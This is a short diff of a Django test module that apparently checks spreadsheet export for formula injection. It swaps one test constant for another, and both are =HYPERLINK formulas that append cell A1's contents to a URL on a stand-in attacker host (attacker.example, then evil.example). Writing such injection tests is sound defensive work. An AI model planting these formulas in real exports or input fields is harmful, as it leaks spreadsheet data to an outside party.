@@ -19,7 +19,8 @@ from .factories import MembershipFactory, official
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_random_inspection")]
 
-FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+# Short enough for the narrowest column it is stored in (50 characters on PostgreSQL).
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Go")'
 
 
 def rows_of(response) -> list[list[str]]:
